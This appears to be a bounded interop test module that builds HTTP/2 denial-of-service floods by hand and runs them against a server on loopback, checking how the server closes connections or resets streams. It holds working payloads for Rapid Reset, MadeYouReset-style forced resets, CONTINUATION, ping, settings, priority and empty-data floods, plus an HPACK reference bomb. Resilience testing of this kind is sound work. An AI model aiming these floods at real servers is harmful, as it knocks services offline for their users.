"""Floods of HTTP/2 by hand, each bounded and on loopback. As a program, `http2_floods.py PORT NAME ... SECONDS` goes
through them again and again for so long, and prints how many connections that took.

A flood is a generator that is given a client (see `h2_client.py`) and yields what is to be sent next, a few frames at a
time. It has no end of its own: `flooded` ends it when the other side does, or has taken `FRAMES_MAX`.
"""

from __future__ import annotations

import contextlib
import select
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).parents[2]))

from hyperframe.frame import (
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.interop.h2_client import Http2Client, dialled

FRAMES_MAX: Final = 6000
AT_ONCE: Final = 25  # frames
BREATH_S: Final = 0.002  # between the frames of a flood, so that what is said to it is not lost behind its end
PAUSE_S: Final = 0.5  # between two connections of the program: each costs what 200 requests cost
LINGERS_S: Final = 5.0  # for the other side to close

Flood = Callable[[Http2Client], Iterator[bytes]]


@dataclass
class Told:
    """What came of one."""

    frames: int = 0
    closed: bool = False
    goaways: list[tuple[int, int, bytes]] = field(default_factory=list)
    resets: int = 0


def flooded(port: int, flood: Flood, context: ssl.SSLContext | None = None) -> Told:
    """Do it to whoever listens there."""
    told = Told()
    with Http2Client(dialled(port, context)) as client:
        client.settle()  # so that nothing of its own comes between the frames
        pieces = flood(client)
        with contextlib.suppress(OSError):
            while told.frames < FRAMES_MAX and not client.closed:
                client.send(next(pieces))
                told.frames += AT_ONCE
                while not client.closed and select.select([client.sock], [], [], BREATH_S)[0]:
                    client.take()
        until = time.monotonic() + LINGERS_S
        client.sock.settimeout(0.1)
        while not client.closed and time.monotonic() < until:
            with contextlib.suppress(TimeoutError):
                client.take()
        told.closed, told.goaways, told.resets = client.closed, client.goaways, client.resets
    return told


def many(frames: Callable[[int], bytes]) -> Iterator[bytes]:
    """... of them; each is told its number."""
    number = 0
    while True:
        yield b"".join(frames(number + each) for each in range(AT_ONCE))
        number += AT_ONCE


def by_hand(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame, whether there is such a one or not."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def asked(client: Http2Client, number: int, method: str = "GET", ended: bool = True, **fields: str) -> bytes:
    """A request on the stream that has this number in the order of streams."""
    block = client.head(method, "/late?s=1", fields.items())
    return HeadersFrame(2 * number + 1, block, flags=["END_HEADERS", *(["END_STREAM"] if ended else [])]).serialize()


# -------------------------------------------------------------------------------------------- requests taken back


def rapid_reset(client: Http2Client) -> Iterator[bytes]:
    """CVE-2023-44487."""
    return many(lambda n: asked(client, n) + RstStreamFrame(2 * n + 1, error_code=8).serialize())


def made_to_reset_by_a_window_update_of_0(client: Http2Client) -> Iterator[bytes]:
    """CVE-2025-8671, and so are those that follow: what the other side must answer with a reset of its own."""
    return many(lambda n: asked(client, n, ended=False) + by_hand(8, 0, 2 * n + 1, bytes(4)))


def made_to_reset_by_a_window_that_overflows(client: Http2Client) -> Iterator[bytes]:
    update = (2**31 - 1).to_bytes(4, "big")
    return many(lambda n: asked(client, n, ended=False) + by_hand(8, 0, 2 * n + 1, update))


def made_to_reset_by_data_behind_the_end(client: Http2Client) -> Iterator[bytes]:
    return many(lambda n: asked(client, n) + DataFrame(2 * n + 1, b"x").serialize())


def made_to_reset_by_a_head_behind_the_end(client: Http2Client) -> Iterator[bytes]:
    return many(lambda n: asked(client, n) + asked(client, n))


def made_to_reset_by_a_priority_of_another_size(client: Http2Client) -> Iterator[bytes]:
    return many(lambda n: asked(client, n, ended=False) + by_hand(2, 0, 2 * n + 1, bytes(4)))


def made_to_reset_by_depending_on_itself(client: Http2Client) -> Iterator[bytes]:
    def both(number: int) -> bytes:
        stream = 2 * number + 1
        return asked(client, number, ended=False) + by_hand(2, 0, stream, stream.to_bytes(4, "big") + b"\0")

    return many(both)


def made_to_reset_by_another_length(client: Http2Client) -> Iterator[bytes]:
    fields = {"content-length": "1"}
    return many(lambda n: asked(client, n, "POST", ended=False, **fields) + DataFrame(2 * n + 1, b"xx").serialize())


def too_many_at_once(client: Http2Client) -> Iterator[bytes]:
    """Whatever SETTINGS say."""
    return many(lambda n: asked(client, n))


def data_behind_the_end(client: Http2Client) -> Iterator[bytes]:
    """On one stream, again and again."""
    yield asked(client, 0)
    yield from many(lambda n: DataFrame(1, b"x").serialize())


# ------------------------------------------------------------------------------------------------ other frames


def continuations(client: Http2Client) -> Iterator[bytes]:
    """CVE-2024-27316: a head without an end."""
    yield HeadersFrame(1, client.head("GET", "/"), flags=["END_STREAM"]).serialize()
    yield from many(lambda n: by_hand(9, 0, 1, client.encoder.encode([(f"x-{n}", "x" * 100)])))


def empty_continuations(client: Http2Client) -> Iterator[bytes]:
    yield HeadersFrame(1, client.head("GET", "/"), flags=["END_STREAM"]).serialize()
    yield from many(lambda n: by_hand(9, 0, 1, b""))


def pings(client: Http2Client) -> Iterator[bytes]:
    """CVE-2019-9512."""
    return many(lambda n: PingFrame(0, n.to_bytes(8, "big")).serialize())


def settings(client: Http2Client) -> Iterator[bytes]:
    """CVE-2019-9515."""
    return many(lambda n: SettingsFrame(0).serialize())


def sizes_of_the_table(client: Http2Client) -> Iterator[bytes]:
    return many(lambda n: SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 4096 * (n % 2)}).serialize())


def windows_to_and_fro(client: Http2Client) -> Iterator[bytes]:
    """With a request under way, whose window changes each time."""
    yield asked(client, 0)
    yield from many(lambda n: SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: n % 2}).serialize())


def priorities(client: Http2Client) -> Iterator[bytes]:
    """CVE-2019-9513."""
    return many(lambda n: PriorityFrame(2 * n + 1, depends_on=0, stream_weight=n % 256).serialize())


def priority_updates(client: Http2Client) -> Iterator[bytes]:
    """RFC 9218 section 7.1, of streams that are not there."""
    return many(lambda n: by_hand(0x10, 0, 0, (2 * n + 1).to_bytes(4, "big") + b"u=1"))


def empty_data(client: Http2Client) -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield asked(client, 0, "POST", ended=False)
    yield from many(lambda n: DataFrame(1).serialize())


def padding_alone(client: Http2Client) -> Iterator[bytes]:
    """Data of which nothing is data."""
    yield asked(client, 0, "POST", ended=False)
    yield from many(lambda n: DataFrame(1, pad_length=10, flags=["PADDED"]).serialize())


def unknown_frames(client: Http2Client) -> Iterator[bytes]:
    return many(lambda n: by_hand(0xEE, 0, 0, b"x"))


def tiny_window_updates(client: Http2Client) -> Iterator[bytes]:
    """CVE-2019-9511 opens windows so."""
    return many(lambda n: WindowUpdateFrame(0, window_increment=1).serialize())


def bombs(client: Http2Client, references: int, target: bytes) -> Iterator[bytes]:
    """CVE-2026-49975: requests that each say the same field of 4,000 bytes so many times, by one byte each."""
    pseudo = b"\x82" + (b"\x87" if client.scheme == "https" else b"\x86") + b"\x04" + string(target)
    pseudo += b"\x01" + string(b"localhost")
    number = 1
    field = b"\x40" + string(b"x") + string(b"y" * 4000)  # to the table, and from then on it is number 62
    while True:
        block = pseudo + field + b"\xbe" * references
        yield by_hand(1, 5, number, block)
        field = b""
        number += 2


def string(data: bytes) -> bytes:
    """RFC 7541 section 5.2, without Huffman's code."""
    size = len(data)
    if size < 127:
        return bytes((size,)) + data
    size -= 127
    length = b"\x7f"
    while size >= 128:
        length += bytes((size % 128 + 128,))
        size //= 128
    return length + bytes((size,)) + data


FLOODS: Final[dict[str, Flood]] = {
    flood.__name__: flood
    for flood in (
        rapid_reset, made_to_reset_by_a_window_update_of_0, made_to_reset_by_a_window_that_overflows,
        made_to_reset_by_data_behind_the_end, made_to_reset_by_a_head_behind_the_end,
        made_to_reset_by_a_priority_of_another_size, made_to_reset_by_depending_on_itself,
        made_to_reset_by_another_length, too_many_at_once, data_behind_the_end, continuations,
        empty_continuations, pings, settings, sizes_of_the_table, windows_to_and_fro, priorities, priority_updates,
        empty_data, padding_alone, unknown_frames, tiny_window_updates,
    )
}  # fmt: skip


def main(port: int, names: list[str], seconds: float) -> None:
    """Until the time is over."""
    ends = time.monotonic() + seconds
    connections = 0
    while time.monotonic() < ends:
        for name in names:
            flooded(port, FLOODS[name])
            connections += 1
            time.sleep(PAUSE_S)
            if time.monotonic() > ends:
                break
    print(connections, flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2:-1], float(sys.argv[-1]))
